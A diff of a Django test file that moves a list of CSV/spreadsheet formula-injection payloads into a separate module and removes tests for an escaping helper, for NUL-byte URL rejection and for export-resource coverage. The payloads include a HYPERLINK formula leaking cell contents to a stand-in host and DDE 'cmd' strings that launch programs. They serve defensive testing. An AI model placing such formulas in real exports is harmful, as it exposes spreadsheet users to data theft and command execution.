@@ -11,23 +11,15 @@ import pytest
 from openpyxl import load_workbook
 
 from apps.congresses.models import Congress
-from apps.core.exports import spreadsheet_safe
 from apps.organizations.importing import import_organizations, import_people
 from apps.organizations.models import Organization, Role
 from apps.personnel.imports import read_candidates
 from tests.factories import CongressFactory, person, term
 
+from .formulas import PAYLOADS
 from .snapshots import snapshot
 
 pytestmark = pytest.mark.django_db
-PAYLOADS = [
-    '=HYPERLINK("http://evil.invalid/?x="&A1,"Bấm vào đây")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
 
 
 @pytest.fixture
@@ -41,13 +33,6 @@ def hostile(tree):
     Congress.objects.filter(pk=congress.pk).update(place="Hall\x0bA" + PAYLOADS[2])
     CongressFactory(organization=tree.ptm, term=term("2025-2030"), place=PAYLOADS[4])
     return tree
-
-
-def test_the_one_helper_escapes_every_trigger_and_control_character():
-    assert [spreadsheet_safe(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
-    assert spreadsheet_safe("Hall\x0bA") == "Hall\ufffdA"
-    assert spreadsheet_safe("Quảng Bình") == "Quảng Bình"
-    assert spreadsheet_safe(42) == 42
 
 
 @pytest.mark.parametrize("what", ["organizations", "people", "congresses", "status"])
@@ -139,54 +124,3 @@ def test_importers_refuse_control_characters_and_nul_bytes(tree):
         "gửi lại."
     ]
     assert snapshot() == before
-
-
-@pytest.mark.parametrize(
-    "url",
-    [
-        "/org/QB%00/",
-        "/org/QB/?after=QB%00",
-        "/congresses/?verb=x%00",
-        "/api/v1/organizations/?search=a%00b",
-        "/api/v1/organizations/?parent=QB%00",
-        "/api/v1/organizations/QB%00/",
-        "/org/QB/audit/?verb=%00",
-    ],
-)
-def test_a_nul_byte_in_the_url_or_query_answers_400(client, tree, url):
-    client.force_login(tree.qb_officer)
-    response = client.get(url)
-    assert response.status_code == 400
-    assert "Có ký tự điều khiển không hợp lệ (U+0000)" in response.content.decode()
-
-
-def test_every_export_resource_and_admin_export_goes_through_the_one_helper():
-    """The pages, the export command and the admin's export all export through resources; every
-    resource the project defines or registers derives from SpreadsheetSafeResource."""
-    from django.contrib import admin
-    from import_export.resources import Resource
-
-    from apps.core.exports import SpreadsheetSafeResource
-
-    admin.autodiscover()  # imports every admin module, and the resources they name
-
-    def subclasses(cls):
-        for sub in cls.__subclasses__():
-            yield sub
-            yield from subclasses(sub)
-
-    ours = [c for c in subclasses(Resource) if c.__module__.startswith("apps.")]
-    registered = [
-        c
-        for model_admin in admin.site._registry.values()
-        for c in getattr(model_admin, "resource_classes", [])
-    ]
-    assert {c.__name__ for c in ours} >= {
-        "OrganizationResource",
-        "MembershipResource",
-        "CongressScheduleResource",
-        "CongressStatusResource",
-    }
-    assert registered
-    for resource in {*ours, *registered} - {SpreadsheetSafeResource}:
-        assert issubclass(resource, SpreadsheetSafeResource), resource
